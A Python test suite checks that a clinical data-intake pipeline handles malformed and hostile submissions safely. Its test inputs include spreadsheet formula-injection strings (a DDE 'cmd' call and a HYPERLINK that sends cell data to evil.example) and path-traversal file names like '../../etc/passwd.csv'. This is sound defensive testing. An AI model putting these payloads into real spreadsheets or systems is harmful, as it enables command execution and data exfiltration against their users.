"""The bad-input corpus: every kind of broken or hostile submission gets its outcome.

Each case is one file a site might send, with the outcome it must get: rejected
with a reason that says what to fix, or loaded with the findings that become
data queries. For every case the same checks hold: receiving it never raises,
the archive keeps the original byte for byte, a rejected file is quarantined
and loads nothing, an accepted file accounts for every row, nothing is
written outside the data folder, and a good file from another site received
right after it in the same batch loads as usual.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import re
import subprocess
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import bad_inputs as bad
import pytest
from support import SECRET, demo_registry, warehouse

from orchestration.intake import receive_file
from orchestration.intake.archive import RefusedFile, safe_name
from orchestration.intake.landing import landed_files, refused_entries
from orchestration.intake.receive import receive_reception
from orchestration.intake.receptions import Reception, plan_receptions
from orchestration.publish.safe_cells import TRIGGERS, neutralise_frame
from orchestration.settings import Paths

INJECTIONS = ["=cmd|'/c calc'!A1", "+SUM(1)", "-2+3", "@foo"]


@dataclass
class Outcome:
    """What receiving a case gave, with the warehouse still open for checks."""

    receipt: object
    con: object
    registry: object
    folders: Paths

    def query(self, sql: str, params: list | None = None) -> list[tuple]:
        return self.con.execute(sql, params or []).fetchall()

    @property
    def problems(self) -> set[tuple[int, str]]:
        return {(p["row_number"], p["field"]) for p in self.receipt.problems}

    @property
    def said(self) -> str:
        r = self.receipt
        return " | ".join([r.reason or "", *r.notes, *(p["problem"] for p in r.problems)])


@dataclass
class Case:
    name: str
    build: Callable        # (registry, folder) -> the file to submit from S01
    status: str
    says: str = ""         # words the receipt must say (reason, note or problem)
    check: Callable | None = None
    policy: dict = field(default_factory=dict)


def text_file(name: str, make: Callable, encoding: str = "utf-8") -> Callable:
    return lambda registry, folder: bad.put(folder, name, make(registry), encoding)


def csv_of(count: int = 3, delimiter: str = ",", newline: str = "\n", **changes) -> Callable:
    return lambda registry: bad.csv_text(bad.rows(registry, "S01", count, **changes), delimiter, newline=newline)


def header_line(registry) -> str:
    return bad.csv_text(bad.rows(registry)).splitlines()[0] + "\n"


def cut_last_row(registry) -> str:
    text = bad.csv_text(bad.rows(registry, count=3)).rstrip("\n")
    return text[: text.rfind("\n") + 30]   # the last row ends inside its first fields


def mixed_endings(registry) -> str:
    lines = bad.csv_text(bad.rows(registry, count=4)).splitlines()
    endings = ["\r\n", "\n", "\r", "\r\n", "\n"]
    return "".join(line + endings[i % len(endings)] for i, line in enumerate(lines))


def relabelled(old: str, new: str) -> Callable:
    def make(registry):
        table = bad.rows(registry)
        header = [new if name == old else name for name in table[0]]
        return bad.csv_text(table, header=header)
    return make


def with_extra_column(label: str, value: str) -> Callable:
    def make(registry):
        table = [{**row, "__extra__": value} for row in bad.rows(registry)]
        return bad.csv_text(table, header=[*list(table[0])[:-1], label])
    return make


def more_fields_on_row_two(registry) -> str:
    lines = bad.csv_text(bad.rows(registry)).splitlines()
    lines[2] += ",surplus"
    return "\n".join(lines) + "\n"


def open_quote(registry) -> str:
    lines = bad.csv_text(bad.rows(registry)).splitlines()
    lines[1] = lines[1].replace("Patient 1", '"Patient 1')
    return "\n".join(lines) + "\n"


def nul_in_cell(registry) -> str:
    return bad.csv_text(bad.rows(registry, row0={"patient_name": "Pat\x00ient"}))


def short_middle_row(registry) -> str:
    lines = bad.csv_text(bad.rows(registry)).splitlines()
    lines[2] = ",".join(lines[2].split(",")[:-10])
    return "\n".join(lines) + "\n"


def blank_lines(registry) -> str:
    lines = bad.csv_text(bad.rows(registry)).splitlines()
    return "\n".join([lines[0], lines[1], "", lines[2], "", "", lines[3]]) + "\n"


def trailing_delimiter(registry) -> str:
    return "".join(line + ",\n" for line in bad.csv_text(bad.rows(registry)).splitlines())


def injected(registry) -> str:
    table = bad.rows(registry, count=4, row0={"case_id": INJECTIONS[0], "patient_name": INJECTIONS[1]},
                     row1={"case_id": INJECTIONS[3]}, row2={"case_id": INJECTIONS[2]})
    table = [{**row, "notes": INJECTIONS[0]} for row in table]
    return bad.csv_text(table, header=[*list(table[0])[:-1], '=HYPERLINK("http://evil.example/?"&A2)'])


def named(name: str, make: Callable) -> Callable:
    return lambda registry, folder: bad.put(folder, name, make(registry))


# --- checks -------------------------------------------------------------------

def loaded(count: int) -> Callable:
    def check(o: Outcome) -> None:
        assert o.receipt.rows_loaded == count
        assert o.query("select count(*) from raw.cases where submission_id = ?", [o.receipt.submission_id]) == \
            [(count,)]
    return check


def all_of(*checks: Callable) -> Callable:
    def check(o: Outcome) -> None:
        for each in checks:
            each(o)
    return check


def receipt_field(name: str, value) -> Callable:
    def check(o: Outcome) -> None:
        assert getattr(o.receipt, name) == value
    return check


def problems_are(*expected: tuple[int, str]) -> Callable:
    def check(o: Outcome) -> None:
        assert o.problems == set(expected)
    return check


def stored(column: str, case_id: str, value) -> Callable:
    def check(o: Outcome) -> None:
        assert o.query(f'select "{column}" from raw.cases where case_id = ?', [case_id]) == [(value,)]
    return check


def hashed_name(case_id: str, name: str) -> Callable:
    import hmac

    def check(o: Outcome) -> None:
        expected = hmac.new(SECRET, name.encode(), hashlib.sha256).hexdigest()
        assert o.query("select patient_name_key from raw.cases where case_id = ?", [case_id]) == [(expected,)]
    return check


def never_stores_non_finite(o: Outcome) -> None:
    assert o.query("select albumin, creatinine, wbc from raw.cases where case_id = 'S01-00001'") == \
        [(None, None, None)]
    assert o.query("select count(*) from raw.cases where isnan(albumin) or isinf(albumin) or isnan(creatinine) "
                   "or isinf(creatinine) or isnan(wbc) or isinf(wbc)") == [(0,)]


def quality_finds(rule_id: str, rows: set[int]) -> Callable:
    def check(o: Outcome) -> None:
        from orchestration.quality.findings import compute_findings

        compute_findings(o.con, o.registry)
        found = {r[0] for r in o.query("select row_number from quality.findings where rule_id = ? and site_id = 'S01'",
                                       [rule_id])}
        assert found == rows
    return check


def negative_age(o: Outcome) -> None:
    (age,), = o.query("select age_years from raw.cases where case_id = 'S01-00001'")
    assert age < 0
    quality_finds("plausibility.range.date_of_birth", {1})(o)


def injection_is_harmless(o: Outcome) -> None:
    """Stored as the text it is; quoted in the receipt; neutralised when written to CSV."""
    ids = [r[0] for r in o.query("select case_id from raw.cases where site_id = 'S01' order by row_number")]
    assert ids[:3] == [INJECTIONS[0], INJECTIONS[3], INJECTIONS[2]]
    text = (o.folders.receipts / "S01" / f"{o.receipt.submission_id}.txt").read_text()
    assert not [line for line in text.splitlines() if line.startswith(TRIGGERS)]
    assert repr('=HYPERLINK("http://evil.example/?"&A2)') in text
    import pandas as pd
    frame = neutralise_frame(pd.DataFrame({"case_id": ids}))
    assert not frame.case_id.str.startswith(TRIGGERS).any()


def quarantined_under_a_safe_name(o: Outcome) -> None:
    names = [p.name for p in (o.folders.quarantine / "S01").iterdir()]
    assert names and all(re.fullmatch(r"[A-Za-z0-9._-]{1,200}", n) for n in names), names
    first_line = (o.folders.receipts / "S01" / f"{o.receipt.submission_id}.txt").read_text().splitlines()[0]
    assert first_line.startswith("Receipt for '") and first_line.endswith("from site S01")


# --- the corpus -------------------------------------------------------------------

LATIN_NAME = "Zoë Ångström"

CASES = [
    # structure of the file
    Case("empty_file", text_file("S01_2025Q1.csv", lambda r: b""), "rejected", "the file is empty"),
    Case("whitespace_only", text_file("S01_2025Q1.csv", lambda r: "  \r\n\n \t\n"), "rejected", "the file is empty"),
    Case("header_only", text_file("S01_2025Q1.csv", header_line), "rejected", "header but no data rows"),
    Case("truncated_last_line", text_file("S01_2025Q1.csv", cut_last_row), "accepted_with_findings", "cut off",
         all_of(loaded(2), problems_are((3, "(row)")))),
    Case("no_final_line_break", text_file("S01_2025Q1.csv", lambda r: csv_of()(r).rstrip("\n")), "accepted",
         check=loaded(3)),
    Case("binary_garbage", text_file("S01_2025Q1.csv", lambda r: bad.random_bytes(200_000)), "rejected",
         "not text"),
    Case("tab_delimited_named_csv", text_file("S01_2025Q1.csv", csv_of(delimiter="\t")), "accepted",
         check=all_of(loaded(3), receipt_field("delimiter", "\t"))),
    Case("pipe_delimited", text_file("S01_2025Q1.csv", csv_of(delimiter="|")), "accepted",
         check=receipt_field("delimiter", "|")),
    Case("unrecognised_delimiter", text_file("S01_2025Q1.csv", csv_of(delimiter=":")), "rejected",
         "delimiter was not recognised"),
    Case("mixed_line_endings", text_file("S01_2025Q1.csv", mixed_endings), "accepted", "mixes line endings",
         loaded(4)),
    Case("old_mac_line_endings", text_file("S01_2025Q1.csv", csv_of(newline="\r")), "accepted", check=loaded(3)),
    Case("windows_line_endings", text_file("S01_2025Q1.csv", csv_of(newline="\r\n")), "accepted", check=loaded(3)),
    Case("blank_lines_between_rows", text_file("S01_2025Q1.csv", blank_lines), "accepted", check=loaded(3)),
    Case("short_row_padded", text_file("S01_2025Q1.csv", short_middle_row), "accepted", check=loaded(3)),
    Case("trailing_delimiter", text_file("S01_2025Q1.csv", trailing_delimiter), "accepted",
         check=all_of(loaded(3), receipt_field("unknown_columns", ["(blank header, column 54)"]))),
    Case("more_fields_than_header", text_file("S01_2025Q1.csv", more_fields_on_row_two), "rejected",
         "line 3 has more fields than the header's 53"),
    Case("quote_left_open", text_file("S01_2025Q1.csv", open_quote), "rejected", "opened and never closed"),
    Case("nul_bytes", text_file("S01_2025Q1.csv", nul_in_cell), "rejected", "NUL bytes"),
    # encodings
    Case("latin1", text_file("S01_2025Q1.csv", csv_of(row0={"patient_name": LATIN_NAME}), "latin-1"), "accepted",
         check=all_of(receipt_field("encoding", "latin-1"), hashed_name("S01-00001", LATIN_NAME))),
    Case("utf8_bom", text_file("S01_2025Q1.csv", csv_of(row0={"patient_name": LATIN_NAME}), "utf-8-sig"),
         "accepted", check=all_of(receipt_field("encoding", "utf-8-sig"), receipt_field("unknown_columns", []),
                                  hashed_name("S01-00001", LATIN_NAME))),
    Case("utf16_with_bom", text_file("S01_2025Q1.csv", csv_of(row0={"patient_name": LATIN_NAME}), "utf-16"),
         "accepted", check=all_of(receipt_field("encoding", "utf-16"), hashed_name("S01-00001", LATIN_NAME))),
    Case("utf16le_without_bom", text_file("S01_2025Q1.csv", csv_of(), "utf-16-le"), "accepted",
         check=all_of(receipt_field("encoding", "utf-16-le"), loaded(3))),
    Case("utf16be_without_bom", text_file("S01_2025Q1.csv", csv_of(), "utf-16-be"), "accepted",
         check=all_of(receipt_field("encoding", "utf-16-be"), loaded(3))),
    Case("utf32_with_bom", text_file("S01_2025Q1.csv", csv_of(), "utf-32"), "accepted",
         check=receipt_field("encoding", "utf-32")),
    Case("utf16_cut_mid_character", lambda r, f: bad.put(f, "S01_2025Q1.csv", csv_of()(r).encode("utf-16") + b"A"),
         "rejected", "not valid UTF-16"),
    # headers
    Case("duplicate_headers", text_file("S01_2025Q1.csv", relabelled("creatinine", "albumin")), "rejected",
         "columns appear twice: 'albumin'"),
    Case("alias_and_name_of_one_variable", text_file("S01_2025Q1.csv", with_extra_column("MRN", "X1")),
         "rejected", "columns appear twice: 'MRN'"),
    Case("blank_header_over_data", text_file("S01_2025Q1.csv", with_extra_column("", "a note")), "accepted",
         check=receipt_field("unknown_columns", ["(blank header, column 54)"])),
    Case("blank_header_of_a_required_column", text_file("S01_2025Q1.csv", relabelled("asa_class", " ")),
         "rejected", "required columns are missing: asa_class"),
    # limits
    Case("ten_thousand_columns", lambda r, f: bad.wide_file(r, f, 10_000), "rejected",
         "10000 columns, over the limit of 1000"),
    Case("over_the_size_limit", text_file("S01_2025Q1.csv", csv_of(count=25)), "rejected",
         "over the limit of 4000 bytes", policy={"max_file_bytes": 4000}),
    Case("over_the_row_limit", text_file("S01_2025Q1.csv", csv_of(count=4)), "rejected",
         "4 rows, over the limit of 3", policy={"max_rows": 3}),
    Case("enormous_field", lambda r, f: bad.enormous_field(r, f, 3), "rejected",
         "longer than the limit of 1048576 bytes"),
    Case("long_cell_under_the_limit", text_file("S01_2025Q1.csv", csv_of(row0={"patient_name": "y" * 500_000})),
         "accepted", check=hashed_name("S01-00001", "y" * 500_000)),
    # values
    Case("thousands_separator", text_file("S01_2025Q1.csv", csv_of(row0={"weight_kg": "1,234.5"})),
         "accepted_with_findings", "with a decimal point", problems_are((1, "weight_kg"))),
    Case("decimal_comma_in_semicolon_file",
         text_file("S01_2025Q1.csv", csv_of(delimiter=";", row0={"albumin": "3,5"})), "accepted",
         check=stored("albumin", "S01-00001", 3.5)),
    Case("decimal_comma_in_comma_file", text_file("S01_2025Q1.csv", csv_of(row0={"albumin": "3,5"})),
         "accepted_with_findings", "with a decimal point", stored("albumin", "S01-00001", None)),
    Case("dates_in_several_formats", text_file("S01_2025Q1.csv", csv_of(
        count=4, row0={"admission_date": "2025/02/02"}, row1={"admission_date": "15/02/2025"},
        row2={"discharge_date": "2025-02-30"}, row3={"operation_date": "2025-02-05T08:30:00"})),
        "accepted_with_findings", "day-month and month-day orders cannot be told apart",
        all_of(problems_are((2, "admission_date"), (3, "discharge_date")),
               stored("admission_date", "S01-00001", __import__("datetime").date(2025, 2, 2)),
               lambda o: "not a real calendar date" in o.said)),
    Case("xlsx_dates_and_a_bare_day_number", lambda r, f: bad.workbook_with_dates(r, f / "S01_2025Q1.xlsx"),
         "accepted_with_findings", "looks like an Excel day number",
         all_of(problems_are((2, "discharge_date")),
                stored("operation_date", "S01-00001", __import__("datetime").date(2025, 2, 10)))),
    Case("nan_and_infinity", text_file("S01_2025Q1.csv", csv_of(
        row0={"albumin": "NaN", "creatinine": "inf", "wbc": "-Infinity"})), "accepted_with_findings",
        "not a finite number", all_of(problems_are((1, "albumin"), (1, "creatinine"), (1, "wbc")),
                                      never_stores_non_finite)),
    Case("negative_age", text_file("S01_2025Q1.csv", csv_of(row0={"date_of_birth": "2030-01-01"})), "accepted",
         check=negative_age),
    Case("whitespace_only_cells", text_file("S01_2025Q1.csv", csv_of(
        row0={"albumin": "   "}, row1={"case_id": " \t "})), "accepted_with_findings", "without a case number",
        all_of(problems_are((2, "case_id")), loaded(2), stored("albumin", "S01-00001", None))),
    Case("duplicate_case_rows", text_file("S01_2025Q1.csv", csv_of(row1={"case_id": "S01-00001"})), "accepted",
         check=quality_finds("plausibility.duplicate_case", {1, 2})),
    Case("rows_of_another_site", text_file("S01_2025Q1.csv", csv_of(row1={"site_id": "S07"})), "rejected",
         "rows name another site (S07)"),
    Case("hostile_site_id_in_rows", text_file("S01_2025Q1.csv", csv_of(row1={"site_id": INJECTIONS[0]})),
         "rejected", f"rows name another site ({INJECTIONS[0]!r})"),
    Case("formula_injection_text", text_file("S01_2025Q1.csv", injected), "accepted", check=injection_is_harmless),
    # names
    Case("name_with_dots_and_a_line_break", named("..\n..S01 2025Q1 (final).csv", header_line), "rejected",
         "no data rows", quarantined_under_a_safe_name),
    Case("name_of_250_characters", named("n" * 246 + ".csv", header_line), "rejected", "no data rows",
         quarantined_under_a_safe_name),
    Case("name_not_utf8", named(os.fsdecode(b"S01 caf\xe9 \x1b[31m.csv"), header_line), "rejected",
         "no data rows", quarantined_under_a_safe_name),
    # what the content really is
    Case("csv_that_is_gzip", lambda r, f: bad.put(f, "S01_2025Q1.csv", bad.gzip_of(csv_of()(r))), "rejected",
         "is a gzip-compressed file"),
    Case("csv_that_is_a_workbook", lambda r, f: bad.workbook(f / "S01_2025Q1.csv", bad.as_lists(bad.rows(r))),
         "rejected", "is a zip archive"),
    Case("xlsx_that_is_a_csv", text_file("S01_2025Q1.xlsx", csv_of()), "rejected", "not an Excel workbook"),
    Case("old_xls", lambda r, f: bad.put(f, "S01_2025Q1.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
         "rejected", "(.xls) are not accepted"),
    Case("encrypted_xlsx", lambda r, f: bad.put(f, "S01_2025Q1.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
         "rejected", "password-protected"),
    Case("unknown_file_type", lambda r, f: bad.put(f, "cases.docx", b"PK\x03\x04 not a table"), "rejected",
         "send CSV, XLSX or Parquet"),
    # workbooks
    Case("xlsx_with_formulas", lambda r, f: bad.workbook_with_formula(r, f / "S01_2025Q1.xlsx"), "accepted",
         "3 cells hold formulas", stored("albumin", "S01-00002", 3.5)),
    Case("xlsx_with_several_sheets", lambda r, f: bad.workbook(f / "S01_2025Q1.xlsx", bad.as_lists(bad.rows(r)),
                                                                {"Notes": [["x"]], "Lookup": [["y"]]}),
         "accepted", "other sheets were ignored: 'Notes', 'Lookup'", loaded(3)),
    Case("xlsm_with_a_macro", lambda r, f: bad.macro_workbook(r, f / "S01_2025Q1.xlsm"), "rejected",
         "macro-enabled workbooks (.xlsm) are not accepted"),
    Case("xlsx_hiding_a_macro", lambda r, f: bad.macro_workbook(r, f / "S01_2025Q1.xlsx"), "rejected",
         "contains macros"),
    Case("zip_bomb_as_xlsx", lambda r, f: bad.zip_bomb(f / "S01_2025Q1.xlsx"), "rejected", "possible zip bomb"),
    Case("xlsx_header_only", lambda r, f: bad.workbook(f / "S01_2025Q1.xlsx", bad.as_lists(bad.rows(r))[:1]),
         "rejected", "header but no data rows"),
    Case("xlsx_empty", lambda r, f: bad.workbook(f / "S01_2025Q1.xlsx", []), "rejected", "first sheet is empty"),
    # parquet
    Case("parquet_with_nested_columns", lambda r, f: bad.nested_parquet(r, f / "S01_2025Q1.parquet"), "rejected",
         "nested values"),
    Case("parquet_corrupt", lambda r, f: bad.put(f, "S01_2025Q1.parquet", b"PAR1" + bad.random_bytes(4096) + b"PAR1"),
         "rejected", "not a readable Parquet file"),
    Case("parquet_that_is_a_csv", text_file("S01_2025Q1.parquet", csv_of()), "rejected", "not a Parquet file"),
]


def _files_outside(root: Path, allowed: list[Path]) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file() and not any(a in p.parents for a in allowed)]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_each_bad_input_gets_its_outcome_and_harms_nothing_else(case, tmp_path):
    registry = demo_registry()
    if case.policy:
        registry = dataclasses.replace(registry, policy=registry.policy.model_copy(update=case.policy))
    folders = Paths(tmp_path / "data").ensure()
    inbox = tmp_path / "inbox"
    path = case.build(registry, inbox / "S01")
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    with warehouse(folders, registry) as con:
        receipt = receive_file(con, registry, folders, path, "S01", SECRET)
        neighbour = receive_file(con, registry, folders, bad.good_csv(registry, inbox / "S02", "S02"), "S02", SECRET)
        outcome = Outcome(receipt, con, registry, folders)
        assert receipt.status == case.status, receipt.reason or outcome.said
        assert case.says in outcome.said, outcome.said
        if case.check:
            case.check(outcome)
        mine = outcome.query("select count(*) from raw.cases where submission_id = ?", [receipt.submission_id])[0][0]
        if receipt.status == "rejected":
            assert mine == 0 and receipt.rows_loaded == 0
            assert [p for p in (folders.quarantine / "S01").iterdir() if p.name.startswith(receipt.submission_id)]
        else:
            assert mine == receipt.rows_loaded
            assert receipt.rows_loaded + receipt.rows_rejected == receipt.rows_received
        assert (neighbour.status, neighbour.rows_loaded) == ("accepted", 3), "another site must be unaffected"
    archived = [p for p in folders.archive.rglob(f"{digest}*") if not p.name.endswith(".json")]
    assert len(archived) == 1 and hashlib.sha256(archived[0].read_bytes()).hexdigest() == digest
    stored_receipt = json.loads((folders.receipts / "S01" / f"{receipt.submission_id}.json").read_text())
    assert stored_receipt["status"] == case.status
    assert _files_outside(tmp_path, [folders.data_dir, inbox]) == []


def test_the_corpus_has_at_least_forty_kinds_each_named_once():
    names = [c.name for c in CASES]
    assert len(set(names)) == len(names) >= 40


# --- memory -------------------------------------------------------------------------

MEMORY_PROBE = textwrap.dedent("""
    import json, resource, sys
    from pathlib import Path
    sys.path[:0] = [sys.argv[3]]
    from support import SECRET, demo_registry, warehouse
    from orchestration.intake import receive_file
    from orchestration.settings import Paths

    registry = demo_registry()
    folders = Paths(Path(sys.argv[1])).ensure()
    peaks = {}
    with warehouse(folders, registry) as con:
        con.execute("select 1").fetchall()
        for path in sys.argv[2].split(","):
            before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
            receipt = receive_file(con, registry, folders, Path(path), "S01", SECRET)
            after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
            peaks[Path(path).parent.name] = [receipt.status, receipt.reason, (after - before) // 1024]
    print(json.dumps(peaks))
""")


def test_a_50_mb_cell_and_10000_columns_are_refused_in_bounded_memory(tmp_path):
    registry = demo_registry()
    wide = bad.wide_file(registry, tmp_path / "wide", 10_000)
    huge = bad.enormous_field(registry, tmp_path / "huge", 50)
    tests_dir = Path(__file__).resolve().parents[1]
    result = subprocess.run([sys.executable, "-c", MEMORY_PROBE, str(tmp_path / "data"), f"{wide},{huge}",
                             str(tests_dir)], capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr[-2000:]
    peaks = json.loads(result.stdout.strip().splitlines()[-1])
    assert peaks["wide"][0] == "rejected" and "10000 columns" in peaks["wide"][1]
    assert peaks["huge"][0] == "rejected" and "longer than the limit" in peaks["huge"][1]
    # Growth of the peak resident memory while receiving each file, in MB.
    assert peaks["wide"][2] < 150 and peaks["huge"][2] < 150, peaks
    archived = [p for p in (tmp_path / "data" / "archive").rglob("*.csv")]
    digests = {hashlib.sha256(p.read_bytes()).hexdigest() for p in archived}
    assert digests == {hashlib.sha256(p.read_bytes()).hexdigest() for p in (wide, huge)}


# --- names and links in the landing zone ------------------------------------------

def test_hostile_names_never_make_the_archive_or_quarantine_write_outside_their_folders(tmp_path):
    registry = demo_registry()
    folders = Paths(tmp_path / "data").ensure()
    names = ["../../etc/passwd.csv", "..", "a/../../b.csv", "x\x00y.csv", "n" * 1000 + ".csv", "/abs/olute.csv",
             "..\\..\\win.csv", "S01\n2025Q1.csv"]
    with warehouse(folders, registry) as con:
        for i, name in enumerate(names):
            source = bad.put(folders.landing / "S01", f"landed_{i}.csv", header_line(registry) + "\n" * i)
            stat = source.stat()
            checksum = hashlib.sha256(source.read_bytes()).hexdigest()
            reception = Reception(f"S01.{i}", "S01", name, str(source), stat.st_size, stat.st_mtime_ns, checksum)
            receipt = receive_reception(con, registry, folders, reception, SECRET)
            assert receipt.status == "rejected", receipt.reason
            assert "\n" not in receipt.original_name and "\x00" not in receipt.original_name
    assert _files_outside(tmp_path, [folders.data_dir]) == []
    for folder in (folders.quarantine / "S01", *[p for p in folders.archive.iterdir() if p.is_dir()]):
        for path in folder.iterdir():
            assert path.parent == folder and len(path.name) < 255
            assert re.fullmatch(r"[A-Za-z0-9._-]+", path.name), path.name
    assert safe_name("../../etc/passwd.csv") == "passwd.csv" and safe_name("..") == "file"


def test_a_symlink_in_a_landing_folder_is_refused_and_its_target_never_read(tmp_path):
    registry = demo_registry()
    folders = Paths(tmp_path / "data").ensure()
    secret = bad.good_csv(registry, tmp_path / "elsewhere", "S01", count=4)
    secret_digest = hashlib.sha256(secret.read_bytes()).hexdigest()
    (folders.landing / "S01").mkdir()
    link = folders.landing / "S01" / "S01_2025Q1.csv"
    link.symlink_to(secret)
    (folders.landing / "S02").symlink_to(secret.parent, target_is_directory=True)   # a whole folder as a link
    os.mkfifo(folders.landing / "S01" / "pipe.csv")                                   # must not block
    real = bad.good_csv(registry, folders.landing / "S01", "S01", name="S01_real.csv", count=2)

    assert [f.path for f in landed_files(folders.landing, registry.site_ids())] == [real]
    refused = {(e.site_id, e.name): e.reason for e in refused_entries(folders.landing, registry.site_ids())}
    assert set(refused) == {("S01", "S01_2025Q1.csv"), ("S01", "pipe.csv"), ("S02", "S02")}
    assert "symbolic link" in refused[("S01", "S01_2025Q1.csv")]
    planned = plan_receptions(folders.landing, registry.site_ids(), folders.receptions, set())
    assert [r.original_name for r in planned] == ["S01_real.csv"]

    with warehouse(folders, registry) as con, pytest.raises(RefusedFile, match="symbolic link"):
        receive_file(con, registry, folders, link, "S01", SECRET)
    archived = {p.name.split(".")[0] for p in folders.archive.rglob("*") if p.is_file()}
    assert secret_digest not in archived
    assert link.is_symlink() and secret.is_file()


def test_odd_but_harmless_names_in_landing_are_received_with_their_names_kept(tmp_path):
    registry = demo_registry()
    folders = Paths(tmp_path / "data").ensure()
    names = ["S01 2025Q1 (final) ëü.csv", "a..b.csv", "-rf.csv", "S01\n2025Q1.csv", "x" * 200 + ".csv"]
    for i, name in enumerate(names):
        bad.good_csv(registry, folders.landing / "S01", "S01", name=name, count=i + 1)
    planned = plan_receptions(folders.landing, registry.site_ids(), folders.receptions, set())
    assert sorted(r.original_name for r in planned) == sorted(names)
    with warehouse(folders, registry) as con:
        receipts = [receive_reception(con, registry, folders, r, SECRET) for r in planned]
    assert [r.status for r in receipts] == ["accepted"] * len(names)
    assert {r.original_name for r in receipts} == {n.replace("\n", "\\x0a") for n in names}
    assert _files_outside(tmp_path, [folders.data_dir]) == []
